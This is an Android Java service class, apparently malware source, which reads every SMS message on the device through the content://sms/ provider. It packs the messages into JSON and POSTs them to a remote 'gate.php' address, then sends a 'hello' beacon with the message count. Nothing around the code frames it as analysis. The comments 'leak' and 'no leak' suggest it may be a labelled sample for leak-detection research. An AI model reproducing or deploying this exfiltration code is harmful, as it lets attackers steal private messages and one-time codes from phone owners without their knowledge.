package ways;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import java.io.OutputStreamWriter;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.json.JSONArray;
import org.json.JSONObject;

/** All messages, a map for each row, each column by its own name. */
public class InboxDump extends IntentService {
    public InboxDump() {
        super("dump");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            JSONArray list = new JSONArray();
            for (HashMap<String, String> row : rows()) {
                JSONObject one = new JSONObject();
                for (Map.Entry<String, String> cell : row.entrySet()) one.put(cell.getKey(), cell.getValue());
                list.put(one);
            }
            post(new JSONObject().put("cmd", "inbox").put("rows", list));
            greet(new JSONObject().put("cmd", "hello").put("n", list.length()));
        } catch (Exception e) {
            e.printStackTrace();
        }
    }

    private List<HashMap<String, String>> rows() {
        List<HashMap<String, String>> rows = new ArrayList<>();
        Cursor cursor = getContentResolver().query(Uri.parse("content://sms/"), null, null, null, null);
        if (cursor == null) return rows;
        String[] names = cursor.getColumnNames();
        while (cursor.moveToNext()) {
            HashMap<String, String> row = new HashMap<>();
            for (int i = 0; i < names.length; i++) row.put(names[i], cursor.getString(i));
            rows.add(row);
        }
        cursor.close();
        return rows;
    }

    private void post(JSONObject body) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.20/gate.php").openConnection();
        c.setDoOutput(true);
        OutputStreamWriter out = new OutputStreamWriter(c.getOutputStream(), "UTF-8");
        out.write("data=" + body.toString()); // leak
        out.flush();
        c.getResponseCode();
    }

    private void greet(JSONObject body) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.20/gate.php").openConnection();
        OutputStreamWriter out = new OutputStreamWriter(c.getOutputStream());
        out.write(body.toString()); // no leak
        out.close();
    }
}
